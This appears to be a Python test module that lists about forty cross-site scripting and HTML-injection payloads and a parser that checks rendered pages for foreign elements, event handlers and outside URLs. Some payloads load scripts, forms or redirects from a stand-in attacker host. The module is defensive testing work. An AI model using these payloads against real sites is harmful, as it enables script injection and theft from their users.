"""Texts that try to become code, and a check of what an HTML parser makes of a page."""

from __future__ import annotations

import re
from html.parser import HTMLParser

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt SrC=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/p.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=' javascript:alert(1)'>click</a>",
    "<form action=https://evil.example><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>*{background:url(https://evil.example)}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    'x" autofocus onfocus="alert(1)" y="',
    "` onmouseover=alert(1) `",
    "a onmouseover=alert(1)//",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/<b>x</b>",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>\u202e<input onfocus=alert(1) autofocus>",
)

URL_ATTRIBUTES = {
    *("src", "href", "srcset", "action", "formaction", "poster", "data", "background", "cite"),
    *("xlink:href", "manifest", "ping", "srcdoc", "style", "longdesc", "usemap", "icon"),
}
OWN_URLS = re.compile(
    r"#[a-z]+|index\.html|page-\d+\.html|assets/[0-9a-f]{24}\.[a-z0-9]+|data:,"
    r"|data:(image/(png|jpeg|webp|gif)|video/(mp4|webm)|audio/[a-z0-9]+);base64,[A-Za-z0-9+/]+=*"
)
OWN_TAGS = {
    *("html", "head", "meta", "title", "link", "style", "script", "body", "header", "main"),
    *("footer", "nav", "section", "article", "aside", "div", "p", "ul", "li", "dl", "dt", "dd"),
    *("h1", "h2", "a", "b", "i", "strong", "small", "span", "code", "pre", "figure", "figcaption"),
    *("table", "thead", "tbody", "tr", "th", "td", "details", "summary", "dialog", "form"),
    *("button", "input", "select", "option", "img", "video", "audio"),
    *("svg", "g", "path", "circle", "rect", "text"),
}


class Page(HTMLParser):
    """What a parser sees: texts, and everything that is not ours in `findings`."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self.texts: list[str] = []
        self.attributes: list[str] = []
        self.policy = ""
        self.inline: dict[str, list[str]] = {"script": [], "style": []}
        self.counts: dict[str, int] = {}
        self._inside = ""
        self.feed(html)
        self.close()
        for tag in ("script", "style"):
            if self.counts.get(tag) != 1:
                self.findings.append(f"{self.counts.get(tag)} {tag} elements")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.counts[tag] = self.counts.get(tag, 0) + 1
        self._inside = tag
        if tag not in OWN_TAGS:
            self.findings.append(f"element {tag}")
        for name, value in attrs:
            self.attributes.append(value or "")
            if not re.fullmatch(r"[a-z][a-zA-Z:-]*", name) or name.startswith("on"):
                self.findings.append(f"attribute {name}")
            if name in URL_ATTRIBUTES and not OWN_URLS.fullmatch(value or ""):
                self.findings.append(f"{name}={value}")
        if tag == "meta" and ("http-equiv", "Content-Security-Policy") in attrs:
            self.policy = dict(attrs)["content"] or ""
        elif tag == "meta" and "http-equiv" in dict(attrs):
            self.findings.append("another http-equiv")

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside in self.inline:
            self.inline[self._inside].append(data)
        else:
            self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        self.findings.append(f"comment {data}")
